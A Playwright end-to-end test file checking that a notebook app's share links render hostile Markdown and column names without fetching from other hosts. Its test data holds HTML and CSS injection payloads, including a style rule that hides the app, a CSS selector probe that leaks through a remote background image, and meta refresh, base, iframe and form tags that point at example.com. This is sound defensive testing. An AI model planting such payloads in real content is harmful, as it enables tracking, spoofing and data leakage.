/**
 * Markdown and hover text are safe to open. A share link carries Markdown that tries to hide the
 * app, restyle it, probe it with CSS selectors, load images, stylesheets and frames from another
 * host, and navigate away; and a column named with Markdown image syntax. Chromium routes every
 * host but the app's own to a catcher (support/catcher.ts): opening, reloading, running and
 * hovering must make no connection to it, and the page must ask for nothing but its own origin.
 */
import { expect, test, type Locator, type Page } from '@playwright/test';
import { parseNotebook } from '../../src/notebook/format';
import { shareLink } from '../../src/notebook/share';
import { catcherPort, routedToCatcher, startCatcher, type Catcher } from './support/catcher';
import { allCells, cell, monacoOf, runCell } from './helpers';

// E2E_CATCHER_PORT moves the catcher when another suite's catcher holds the usual port.
const CATCHER_PORT = Number(process.env.E2E_CATCHER_PORT ?? catcherPort());
test.use({ launchOptions: routedToCatcher(CATCHER_PORT) });

let catcher: Catcher;
test.beforeAll(async () => {
  catcher = await startCatcher(CATCHER_PORT);
});
test.afterAll(async () => {
  await catcher.close();
});

/** A 4×4 PNG, carried in the notebook: the one kind of image Markdown may show. */
const PNG =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAFklEQVR4nGNk+M+ABJgYGBgYGBgYAAKXAQMSeqaKAAAAAElFTkSuQmCC';
const COLUMN = '![x](https://example.com/z.png)';

const CELLS: readonly (readonly [kind: 'markdown' | 'sql', name: string, text: string])[] = [
  ['markdown', 'hide', '<style>body,html,.app{display:none!important}</style>\n\n# Still here'],
  [
    'markdown',
    'images',
    '<img src=https://example.com/i.png alt="remote tag">\n\n![x](https://example.com/y.png)\n\n' +
      '<img src="//example.com/p.png" srcset="https://example.com/s1.png 1x" alt="protocol relative">',
  ],
  [
    'markdown',
    'css',
    '<style>@import url(https://example.com/a.css);\n' +
      'button[title*="secret"]{background:url(https://example.com/leak.png)}</style>\n\n' +
      '<p style="background:url(https://example.com/b.png)">styled</p>',
  ],
  [
    'markdown',
    'svg',
    '<svg width="20" height="20"><image href="https://example.com/s.png" width="20" height="20"/>' +
      '<use xlink:href="https://example.com/u.svg#a"/></svg>\n\n' +
      `<img alt="svg data" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://example.com/s2.png'/></svg>">`,
  ],
  [
    'markdown',
    'head',
    [
      '<link rel=stylesheet href=https://example.com/l.css>',
      '<meta http-equiv=refresh content="0;url=https://example.com/m">',
      '<base href=https://example.com/>',
      '<iframe src=https://example.com/f></iframe>',
      '<object data=https://example.com/o></object><embed src=https://example.com/e>',
      '<video poster=https://example.com/p.png src=https://example.com/v.mp4></video>',
      '<audio src=https://example.com/a.mp3 autoplay></audio>',
      '<picture><source srcset=https://example.com/ss.png><img alt=pic src=https://example.com/pp.png></picture>',
      '<form action=https://example.com/f><button formaction=https://example.com/fa>go</button></form>',
      '<input type=image src=https://example.com/ii.png>',
      '<table background=https://example.com/t.png><tr><td background=https://example.com/td.png>td</td></tr></table>',
      '<a href=https://example.com/link ping=https://example.com/ping target=_top>a link</a>',
      '<div id="cell-1" class="app modal" data-role="status" role="dialog" aria-label="Cell 1" hidden>spoof</div>',
    ].join('\n'),
  ],
  [
    'markdown',
    'fine',
    `## Notes\n\n**Bold** text and [the docs](https://example.com/docs).\n\n- [x] done\n- [ ] to do\n\n` +
      `| a | b |\n|---|---|\n| 1 | 2 |\n\n![a dot](${PNG})`,
  ],
  ['sql', 'evil', `SELECT '![s](https://example.com/s.png) <img src=https://example.com/t.png>' AS "${COLUMN}";`],
  ['sql', 'reader', `SELECT "${COLUMN}" FROM evil;`],
];

function notebookText(): string {
  const lines = ['-- %% sql-notebook 1', '-- %% title "Hostile markdown"', ''];
  for (const [kind, name, text] of CELLS) {
    lines.push(`-- %% ${kind} name=${name} engine=duckdb`);
    lines.push(...(kind === 'markdown' ? text.split('\n').map((l) => (l === '' ? '--' : `-- ${l}`)) : [text]));
    lines.push('');
  }
  return [...lines, '-- %% end', ''].join('\n');
}

const FORBIDDEN = [
  'style',
  'link',
  'meta',
  'base',
  'iframe',
  'object',
  'embed',
  'form',
  'button',
  'video',
  'audio',
  'source',
  'picture',
  'svg',
  'input:not([type=checkbox])',
  '[style]',
  '[srcset]',
  '[background]',
  '[poster]',
  '[ping]',
  '[formaction]',
  '[action]',
  '[target]',
  '[id]',
  '[role]',
  '[aria-label]',
  '[hidden]',
  '[data-role]',
  '[class]:not(.markdown-blocked-image)',
].join(', ');

/** What the rendered Markdown holds that it must not: forbidden elements, images from elsewhere, links without rel. */
async function unsafeMarkdown(page: Page): Promise<string[]> {
  return page.locator('.markdown-body').evaluateAll((bodies, forbidden) => {
    const bad: string[] = [];
    for (const body of bodies) {
      for (const el of body.querySelectorAll(forbidden)) bad.push(el.outerHTML);
      for (const img of body.querySelectorAll('img'))
        if (!/^(data:image\/(png|jpeg|gif|webp|avif|bmp)[;,]|blob:)/i.test(img.getAttribute('src') ?? ''))
          bad.push(img.outerHTML);
      for (const a of body.querySelectorAll('a'))
        if (a.getAttribute('rel') !== 'noopener noreferrer') bad.push(a.outerHTML);
    }
    return bad;
  }, FORBIDDEN);
}

/** The app is on screen: nothing a notebook carries may hide it. */
async function expectAppVisible(page: Page): Promise<void> {
  await expect(page.locator('.app')).toBeVisible();
  await expect(page.getByRole('textbox', { name: 'Notebook title' })).toHaveValue('Hostile markdown');
  await expect(page.getByRole('heading', { name: 'Still here' })).toBeVisible();
  const styles = await page.evaluate(() => ({
    text: [...document.styleSheets].flatMap((s) => [...s.cssRules].map((r) => r.cssText)).join('\n'),
    links: [...document.querySelectorAll('link[href]')].map((l) => l.getAttribute('href') ?? ''),
  }));
  expect(styles.text).not.toContain('example.com');
  expect(styles.links.filter((h) => /example\.com/.test(h))).toEqual([]);
}

/** Moves the mouse onto `word` in the first line of the cell's editor that holds it. */
async function hoverWord(page: Page, c: Locator, word: string): Promise<void> {
  await c.scrollIntoViewIfNeeded();
  await monacoOf(c);
  const line = c.locator('.monaco-editor .view-line', { hasText: word }).first();
  const text = ((await line.textContent()) ?? '').replace(/\u00a0/g, ' ');
  const box = await line.locator(':scope > span').boundingBox();
  if (!box) throw new Error('line not on screen');
  const charWidth = box.width / text.length;
  await page.mouse.move(box.x + charWidth * (text.indexOf(word) + word.length / 2), box.y + box.height / 2);
}

test('a shared notebook with hostile Markdown and column names opens, runs and hovers without a request', async ({
  page,
  context,
  baseURL,
}) => {
  const origin = new URL(baseURL ?? 'http://localhost:4173').origin;
  const requests: string[] = [];
  context.on('request', (r) => requests.push(r.url()));
  const link = await shareLink(parseNotebook(notebookText()).notebook, `${origin}/`);
  if (!link.ok) throw link.error;

  await page.goto(link.url);
  await expectAppVisible(page);
  await expect(allCells(page)).toHaveCount(CELLS.length);

  // Remote images are said, not shown; the notebook's own image is shown.
  for (const text of [
    '[image “remote tag” from example.com not loaded: remote content is off]',
    '[image “x” from example.com not loaded: remote content is off]',
    '[image “protocol relative” from example.com not loaded: remote content is off]',
    '[image “pic” from example.com not loaded: remote content is off]',
    '[image “svg data” not loaded: only PNG, JPEG, GIF, WebP and AVIF images inside the notebook are shown]',
  ])
    await expect(page.getByText(text, { exact: true })).toBeVisible();
  const fine = cell(page, 6);
  await expect(fine.getByRole('heading', { name: 'Notes' })).toBeVisible();
  await expect(fine.getByRole('table')).toBeVisible();
  await expect(fine.getByRole('checkbox')).toHaveCount(2);
  await expect(fine.getByRole('checkbox').first()).toBeDisabled();
  await expect(fine.getByRole('link', { name: 'the docs' })).toHaveAttribute('href', 'https://example.com/docs');
  await expect(fine.getByRole('img', { name: 'a dot' })).toHaveJSProperty('naturalWidth', 4);
  await expect(cell(page, 5).getByRole('link', { name: 'a link' })).toHaveAttribute('rel', 'noopener noreferrer');
  expect(await unsafeMarkdown(page)).toEqual([]);

  // For a person to look at (not compared): a cell with placeholders above one rendered in full.
  await fine.scrollIntoViewIfNeeded();
  const top = await cell(page, 5).boundingBox();
  const bottom = await fine.boundingBox();
  if (top && bottom) {
    const clip = { x: top.x, y: top.y, width: top.width, height: bottom.y + bottom.height - top.y };
    await page.screenshot({ path: test.info().outputPath('markdown-cells.png'), clip });
  }

  // The hover on a column named in Markdown image syntax shows the name and samples as text.
  await runCell(cell(page, 8));
  await hoverWord(page, cell(page, 8), COLUMN);
  const hover = page.locator('.monaco-hover:not(.hidden)').filter({ hasText: 'Sample values' });
  await expect(hover).toContainText(COLUMN);
  await expect(hover).toContainText('![s](https://example.com/s.png) <img src=https://example.com/t.png>');
  await expect(hover.locator('img, a')).toHaveCount(0);
  await page.mouse.move(0, 0);
  await hoverWord(page, cell(page, 8), 'evil');
  const tableHover = page.locator('.monaco-hover:not(.hidden)').filter({ hasText: '1 columns' });
  await expect(tableHover).toContainText(COLUMN);
  await expect(tableHover.locator('img, a')).toHaveCount(0);

  // Saved and opened again, and in a new tab: still visible, still nothing fetched.
  await page.reload();
  await expectAppVisible(page);
  expect(await unsafeMarkdown(page)).toEqual([]);
  const tab = await context.newPage();
  await tab.goto('/');
  await expectAppVisible(tab);
  await tab.close();

  expect(new URL(page.url()).origin).toBe(origin);
  // A TLS hello reaches the catcher a moment after the page asked; give it that moment. appHits leaves
  // out Chromium's own services (autofill, sign-in), which connect whatever the page does.
  await page.waitForTimeout(500);
  expect(catcher.appHits()).toEqual([]);
  expect(requests.filter((u) => !(u.startsWith(`${origin}/`) || /^(data|blob):/.test(u)))).toEqual([]);
});
